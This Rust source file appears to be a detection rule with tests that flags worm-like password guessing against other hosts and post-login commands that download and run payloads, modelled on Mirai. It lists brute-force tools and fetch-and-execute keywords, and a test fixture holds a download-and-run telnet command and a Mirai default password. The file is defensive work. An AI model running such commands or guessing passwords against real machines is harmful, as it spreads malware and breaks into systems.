//! Sees passwords tried at other machines, and what is done with those that let in.
//!
//! - Sees: logins with many passwords at one host or the same few at many hosts, found by a scan or by address; commands sent after a login that
//!   fetch and start something.
//! - Misses: guesses at services that we do not play; keys instead of passwords.
//! - False alarms: administration tools log in to many hosts of their own network with one account; a wrong password in a setting is
//!   tried again and again: neither is counted.
//! - Source: Mirai's `scanner.c` and `loader`; ATT&CK T1110.001, T1110.003, T1210, T1021.004.

use std::collections::{BTreeMap, BTreeSet};

use model::{Category, Confidence, Maturity, Severity, Weight, What};

use super::hosts_scanned;
use crate::{
    About, Behaviour, Judge, Match, indicators,
    story::{Story, host_of},
};

pub(super) const BEHAVIOUR: Behaviour = Behaviour {
    about: About {
        id: "passwords-tried",
        title: "Tries passwords at other machines",
        category: Category::Worm,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1110.001", "T1110.003", "T1210"],
    },
    judge: Judge::Run(judge),
};

/// Fewest different passwords of guessing.
const PASSWORDS_MIN: usize = 4;
/// Fewest hosts with the same passwords.
const HOSTS_MIN: usize = 3;
/// Tools for people who guess on purpose: only with targets of others they are more.
const GUESSERS: &[&str] =
    &["hydra", "medusa", "ncrack", "patator", "crowbar", "brutespray", "msfconsole", "nmap", "thc-pptp-bruter"];

#[derive(Default)]
struct Tried<'a> {
    at: usize,
    hosts: BTreeSet<&'a str>,
    public: bool,
    secrets: BTreeSet<(&'a str, &'a str)>,
    /// Logins whose words are not seen: SSH and its likes encrypt them.
    unseen: usize,
    let_in: usize,
}

fn judge(story: &Story<'_>) -> Vec<Match> {
    let mut found = sent_after_login(story);
    let scans = !hosts_scanned::fans(story).is_empty();
    let mut by_service: BTreeMap<&str, Tried<'_>> = BTreeMap::new();
    for (at, event) in story.events() {
        let What::Login { flow, service, user, password, accepted } = &event.what else { continue };
        let Some(flow) = story.flow(*flow) else { continue };
        if matches!(service.as_str(), "smtp" | "irc" | "docker" | "kubernetes") || flow.inbound {
            continue;
        }
        let tried = by_service.entry(service).or_default();
        tried.at = at;
        tried.hosts.insert(host_of(flow.remote));
        tried.public |= flow.is_public() && flow.name.is_none();
        if password.is_empty() {
            tried.unseen += 1;
        } else {
            tried.secrets.insert((user, password));
        }
        tried.let_in += usize::from(*accepted);
    }
    let guesser = story.programs().find(|program| program.is(GUESSERS) && !program.written);
    if let Some(tried) = by_service.get_mut("ssh") {
        let given = story.programs().filter(|program| program.is(&["sshpass"])).filter_map(|program| {
            program
                .arguments
                .iter()
                .skip(1)
                .find_map(|argument| argument.strip_prefix("-p"))
                .or(program.arguments.get(2).map(String::as_str))
        });
        tried.secrets.extend(given.take(256).map(|password| ("", password)));
    }
    for (service, tried) in by_service {
        let Tried { at, hosts, public, secrets, unseen, let_in } = &tried;
        // More than one login a host is more than one password.
        let passwords = secrets.len().max(unseen / hosts.len().max(1));
        let told =
            Match::new(*at, format!("{passwords} {service} accounts tried at {} hosts, {let_in} let in", hosts.len()))
                .with(hosts.iter().take(16).map(|host| indicators::of(model::IndicatorKind::Address, *host)));
        let spreads = hosts.len() >= HOSTS_MIN && (scans || (*public && passwords >= 2)) || (scans && passwords >= 2);
        if guesser.is_some() && (spreads || passwords >= PASSWORDS_MIN) {
            found.push(told.is(Category::HackingTool).sign());
        } else if spreads {
            found.push(told);
        } else if passwords >= PASSWORDS_MIN {
            let of_strangers = told.is(Category::HackingTool);
            found.push(match (*public, secrets.len() >= PASSWORDS_MIN) {
                (true, true) => of_strangers.proof(),
                (false, false) => of_strangers.fact(),
                _ => of_strangers.sign(),
            });
        } else {
            found.push(told.fact());
        }
    }
    found
}

/// Commands sent into a session at another machine that fetch something and start it.
fn sent_after_login(story: &Story<'_>) -> Vec<Match> {
    const FETCH: &[&str] =
        &["wget ", "curl ", "tftp ", "ftpget ", "/bin/busybox ", "echo -ne \"\\x7f", "echo -ne '\\x7f"];
    const START: &[&str] =
        &["chmod ", "| sh", "|sh", "| bash", "|bash", "sh ./", "; ./", "&& ./", "sh /tmp", "> /tmp", "-o- |"];
    let mut by_flow: BTreeMap<u64, (usize, bool, bool)> = BTreeMap::new();
    for (at, event) in story.events() {
        let What::Message { flow, service, text } = &event.what else { continue };
        if !matches!(service.as_str(), "telnet" | "ssh" | "ftp") || story.flow(*flow).is_some_and(|flow| flow.inbound) {
            continue;
        }
        let (first, fetches, starts) = by_flow.entry(*flow).or_insert((at, false, false));
        if FETCH.iter().any(|word| text.contains(word)) && !*fetches {
            (*fetches, *first) = (true, at);
        }
        *starts |= START.iter().any(|word| text.contains(word));
    }
    let mut found = Vec::new();
    for (flow, (at, fetches, starts)) in by_flow {
        let Some(flow) = story.flow(flow).filter(|_| fetches && starts) else { continue };
        let urls = match story.what(at) {
            Some(What::Message { text, .. }) => text
                .split_whitespace()
                .map(|word| word.trim_matches(['"', '\'', ';']))
                .filter(|word| word.starts_with("http"))
                .map(indicators::url)
                .collect::<Vec<_>>(),
            _ => Vec::new(),
        };
        let administers = flow
            .life
            .and_then(|life| story.last_program(life))
            .is_some_and(|program| program.is(&["ssh", "ansible", "ansible-playbook"]));
        let told = Match::new(at, format!("tells {} to fetch and start a program", flow.remote))
            .with([indicators::host(flow)])
            .with(urls);
        found.push(if administers || !(flow.is_public() && flow.name.is_none()) { told.sign().draft() } else { told });
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Run, found, hit, miss};

    fn login(run: &mut Run, to: &str, service: &str, user: &str, password: &str) -> u64 {
        let flow = run.flow_open(1, to, None);
        run.push(
            0,
            What::Login {
                flow,
                service: service.to_owned(),
                user: user.to_owned(),
                password: password.to_owned(),
                accepted: false,
            },
        );
        flow
    }

    #[test]
    fn a_scan_and_passwords_are_a_worm() {
        let mut run = Run::new();
        run.push(0, What::Sweep { protocol: "tcp".to_owned(), ports: vec![22], targets: 200, over_ms: 9_000 });
        for (host, password) in [(4, "root"), (5, "admin"), (6, "1234")] {
            login(&mut run, &format!("203.0.113.{host}:22"), "ssh", "root", password);
        }
        hit(&BEHAVIOUR, run, Weight::Proof, "3 ssh accounts tried at 3 hosts");
    }

    #[test]
    fn commands_after_a_login_spread() {
        let mut run = Run::new();
        let flow = login(&mut run, "203.0.113.4:23", "telnet", "root", "xc3511");
        for text in ["enable", "wget http://203.0.113.8/bins.sh -O /tmp/b; sh /tmp/b"] {
            run.push(0, What::Message { flow, service: "telnet".to_owned(), text: text.to_owned() });
        }
        hit(&BEHAVIOUR, run, Weight::Proof, "tells 203.0.113.4:23 to fetch");
    }

    #[test]
    fn logins_over_ssh_are_counted_where_their_words_are_not_seen() {
        let mut run = Run::new();
        for host in 1..30 {
            login(&mut run, &format!("203.0.113.{host}:22"), "ssh", "", "");
        }
        hit(&BEHAVIOUR, run, Weight::Proof, "ssh accounts tried at 29 hosts");
        let mut run = Run::new();
        for host in 1..5 {
            for password in ["-proot", "-padmin"] {
                run.spawn(1, "/usr/bin/sshpass", &["sshpass", password, "ssh", "root@x"]);
                login(&mut run, &format!("203.0.113.{host}:22"), "ssh", "", "");
            }
        }
        hit(&BEHAVIOUR, run, Weight::Proof, "2 ssh accounts tried at 4 hosts");
    }

    #[test]
    fn a_tunnel_that_tries_again_and_a_database_are_no_worm() {
        let mut run = Run::new();
        for _ in 0..40 {
            let flow = run.flow_open(1, "198.18.4.4:22", Some("git.example"));
            run.push(
                0,
                What::Login {
                    flow,
                    service: "ssh".into(),
                    user: String::new(),
                    password: String::new(),
                    accepted: false,
                },
            );
            login(&mut run, "10.0.0.7:5432", "postgres", "app", "secret");
        }
        for found in found(&BEHAVIOUR, run) {
            assert!(found.weight == Some(Weight::Fact) || found.category == Some(Category::HackingTool), "{found:?}");
        }
    }

    #[test]
    fn a_guessing_tool_is_a_tool() {
        let mut run = Run::of("/usr/bin/hydra", &["hydra", "-P", "list"]);
        for password in ["a", "b", "c", "d", "e"] {
            login(&mut run, "203.0.113.4:22", "ssh", "root", password);
        }
        assert_eq!(found(&BEHAVIOUR, run)[0].category, Some(Category::HackingTool));
    }

    #[test]
    fn a_wrong_password_tried_again_is_none() {
        let mut run = Run::new();
        for _ in 0..30 {
            login(&mut run, "10.0.0.4:6379", "redis", "default", "changed");
        }
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn one_account_on_all_hosts_of_a_cluster_is_none() {
        let mut run = Run::new();
        for host in 1..9 {
            login(&mut run, &format!("10.0.0.{host}:22"), "ssh", "deploy", "one");
        }
        miss(&BEHAVIOUR, run);
    }
}
